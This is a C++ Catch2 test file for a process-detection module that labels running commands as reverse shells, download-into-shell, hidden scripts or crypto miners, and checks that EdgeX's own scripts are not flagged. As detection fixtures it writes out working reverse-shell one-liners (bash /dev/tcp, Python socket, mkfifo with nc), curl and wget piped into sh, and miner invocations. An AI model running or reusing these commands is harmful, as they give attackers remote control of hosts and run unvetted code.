#include "core/detect/tools.hpp"

#include <catch2/catch.hpp>

using namespace iris;

namespace {

ProcessInfo run(std::vector<std::string> args, std::string exe = {}) {
  ProcessInfo process;
  process.exe = exe.empty() ? args[0] : exe;
  process.args = std::move(args);
  process.parent_exe = "/bin/sh";
  process.ancestors = {"/bin/sh"};
  return process;
}

std::string tool_of(const ProcessInfo& process) {
  auto match = match_tool(process);
  return match ? match->tool : "";
}

} // namespace

TEST_CASE("tools are known by name, also as applets") {
  CHECK(tool_of(run({"/usr/bin/ping", "-c", "4", "10.0.0.1"})) == "ping");
  CHECK(tool_of(run({"ping", "10.0.0.1"}, "/bin/busybox")) == "ping");
  CHECK(tool_of(run({"busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"}, "/bin/busybox")) ==
        "nc with a shell");
  CHECK(match_tool(run({"ping", "x"}, "/bin/busybox"))->by_program == false);
  CHECK(tool_of(run({"/opt/xmrig", "-o", "pool"})) == "xmrig");
  CHECK(tool_of(run({"sh", "-c", "ls"}, "/bin/busybox")).empty());
  CHECK(tool_of(run({"/usr/bin/java", "-jar", "ping.jar"})).empty());
}

TEST_CASE("scripts that open a shell to the outside, download into a shell or mine") {
  CHECK(tool_of(run({"/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"})) == "reverse shell");
  CHECK(tool_of(run({"/usr/bin/python3", "-c",
                     "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)"})) ==
        "reverse shell");
  CHECK(tool_of(run(
            {"/bin/sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f"})) ==
        "reverse shell");
  CHECK(tool_of(run({"/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"})) == "download into a shell");
  CHECK(tool_of(run({"/bin/sh", "-c", "wget -qO- http://x/y |bash"})) == "download into a shell");
  CHECK(tool_of(run({"/bin/sh", "-c", "echo aGk= | base64 -d | sh"})) == "hidden script");
  CHECK(tool_of(run({"/tmp/k", "-o", "stratum+tcp://pool.example:3333"})) == "miner");
}

TEST_CASE("what EdgeX's own scripts do is no tool") {
  CHECK(tool_of(run({"/bin/sh", "-c", "curl -s http://edgex-vault:8200/v1/sys/health | grep initialized"}))
            .empty());
  CHECK(tool_of(run({"/bin/sh", "-c", "java -jar -Xmx100M core-data.jar"})).empty());
  CHECK(
      tool_of(run({"/edgex-init/security-bootstrapper", "--confdir=/edgex-init/res", "listenTcp"})).empty());
  CHECK(tool_of(run({"docker", "restart", "edgex-core-data"})).empty());
  CHECK(tool_of(run({"tee", "/edgex/logs/core-consul.log"})).empty());
  CHECK(tool_of(run({"/bin/sh", "-c", "cat log | short | she"})).empty());
}

TEST_CASE("memory execution is told from a runtime on its way in") {
  auto process = run({"x"});
  process.origin = Origin::memory;
  CHECK(runs_from_memory(process));
  process.parent_exe.clear();
  process.ancestors.clear();
  CHECK_FALSE(runs_from_memory(process));
  process.script_origin = Origin::deleted;
  CHECK(runs_from_memory(process));
}
